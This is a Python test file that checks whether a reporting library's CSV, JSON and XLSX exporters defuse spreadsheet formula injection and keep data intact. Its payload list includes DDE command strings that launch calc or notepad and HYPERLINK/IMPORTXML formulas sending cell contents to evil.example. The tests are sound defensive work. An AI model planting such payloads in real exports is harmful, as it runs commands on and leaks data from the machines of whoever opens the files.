"""What is written into a file: nothing in it runs, nothing is lost, and it can be read back."""

import csv
import io
import json
import random
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advocacy.reports.cells import spelled
from advocacy.reports.csv_out import CsvOut, csv_line, escaped, unescaped
from advocacy.reports.json_out import JsonOut
from advocacy.reports.xlsx_out import CUT, LONGEST_TEXT, XlsxOut

WHEN = datetime(2026, 1, 5, 9, tzinfo=UTC)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=1+1",
    "+43 1 234 56",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "@import",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "   =1+1",
    " \t @SUM(1)",
    "'=1+1",
    "''-1",
    "＝1+1",
    "\ufeff=1+1",
    '","=1+1',
    "a;=1+1",
    "a\r\n=1+1,2",
    '"=1+1"',
)


def hostile(number: int) -> list[str]:
    chance = random.Random(7)  # noqa: S311 - the same cells each time
    made = list(PAYLOADS)
    while len(made) < number:
        body = "".join(chance.choices("=+-@\t\r\n\0 ;,\"'aZ0ß😀(){}|!", k=chance.randint(0, 30)))
        made.append(chance.choice(["", " ", "'", "''", *DANGEROUS]) + body)
    return made


CELLS = hostile(500)


def lines(cells: Sequence[Any]) -> list[tuple[int | None, tuple[Any, ...]]]:
    return [(None, (cell,)) for cell in cells]


def written(writer: Any, cells: Sequence[Any]) -> bytes:
    try:
        return bytes(b"".join([writer.head(("cell",)), writer.write(lines(cells)), *writer.tail()]))
    finally:
        writer.close()


def test_no_hostile_cell_of_a_csv_begins_like_a_formula() -> None:
    text = written(CsvOut(), CELLS).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(rows) == len(CELLS)
    for (cell,) in rows:
        assert not cell.lstrip(" ").startswith(DANGEROUS)


def test_hostile_cells_come_back_as_they_were() -> None:
    text = written(CsvOut(), CELLS).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [unescaped(row[0]) for row in rows] == CELLS


@pytest.mark.parametrize("separator", [";", "\t"])
def test_another_list_separator_makes_no_new_cells(separator: str) -> None:
    text = csv_line([f"a{separator}=1+1"])
    assert next(csv.reader(io.StringIO(text, newline=""), delimiter=separator)) == [f"a{separator}=1+1"]


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_every_text_comes_back(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert next(csv.reader(io.StringIO(csv_line([text, "end"]), newline=""))) == [escaped(text), "end"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-5, -5),
        (0.25, 0.25),
        (Decimal("12.50"), 12.5),
        (float("nan"), ""),
        (WHEN, "2026-01-05T09:00:00Z"),
        (date(2026, 2, 28), "2026-02-28"),
        (["a", "b"], "a;b"),
        ({"b": 1, "a": "ü"}, '{"a": "ü", "b": 1}'),
    ],
)
def test_values_are_spelled_the_same_everywhere(value: Any, cell: str | float) -> None:
    assert spelled(value) == cell


def test_numbers_stay_numbers_and_a_phone_number_stays_readable() -> None:
    assert csv_line([-5, 1.5, "+43 1 234", "plain"]) == '-5,1.5,"\'+43 1 234",plain\r\n'


def test_a_byte_order_mark_is_there_only_when_wanted() -> None:
    assert written(CsvOut(), []) == b"cell\r\n"
    assert written(CsvOut(bom=True), []) == b"\xef\xbb\xbfcell\r\n"


def test_json_is_one_array_whatever_is_in_it() -> None:
    assert json.loads(written(JsonOut(), CELLS)) == [{"cell": cell} for cell in CELLS]
    assert json.loads(written(JsonOut(), [])) == []
    values = [1, -1.5, None, True, ["a"], {"b": 1}, WHEN, float("inf")]
    assert [one["cell"] for one in json.loads(written(JsonOut(), values))] == [
        *(1, -1.5, None, True, ["a"], {"b": 1}),
        "2026-01-05T09:00:00Z",
        None,
    ]


def sheets_of(workbook: bytes) -> list[ET.Element]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        names = sorted(name for name in parts.namelist() if name.startswith("xl/worksheets/sheet"))
        return [ET.fromstring(parts.read(name)) for name in names]  # noqa: S314 - we wrote it ourselves


def found(sheet: ET.Element, tag: str) -> list[ET.Element]:
    return [one for one in sheet.iter() if one.tag.endswith("}" + tag)]


def test_a_workbook_holds_hostile_cells_as_text_and_no_formula() -> None:
    (sheet,) = sheets_of(written(XlsxOut(WHEN), CELLS))
    assert found(sheet, "f") == []
    assert found(sheet, "hyperlink") == []
    texts = ["".join(part.text or "" for part in found(cell, "t")) for cell in found(sheet, "c")]
    assert all(cell.get("t") == "inlineStr" for cell in found(sheet, "c"))
    assert texts[1] == "=1+1"
    assert len(texts) == 1 + sum(cell != "" for cell in CELLS)


def test_a_workbook_goes_on_with_a_second_sheet() -> None:
    first, second = sheets_of(written(XlsxOut(WHEN, rows_on_a_sheet=4), range(5)))
    assert [len(found(sheet, "row")) for sheet in (first, second)] == [4, 3]


def test_a_text_too_long_for_a_cell_says_that_it_was_cut() -> None:
    (sheet,) = sheets_of(written(XlsxOut(WHEN), ["😀" * 20_000, "x" * LONGEST_TEXT]))
    cut, whole = ["".join(part.text or "" for part in found(cell, "t")) for cell in found(sheet, "c")][1:]
    assert cut.endswith(CUT)
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_TEXT
    assert whole == "x" * LONGEST_TEXT


def test_a_number_too_long_for_a_spreadsheet_keeps_its_digits() -> None:
    (sheet,) = sheets_of(written(XlsxOut(WHEN), [2**63, 12]))
    long, short = found(sheet, "c")[1:]
    assert (long.get("t"), short.get("t")) == ("inlineStr", None)
    assert "".join(part.text or "" for part in found(long, "t")) == str(2**63)


def test_the_same_rows_make_the_same_workbook() -> None:
    assert written(XlsxOut(WHEN), CELLS) == written(XlsxOut(WHEN), CELLS)
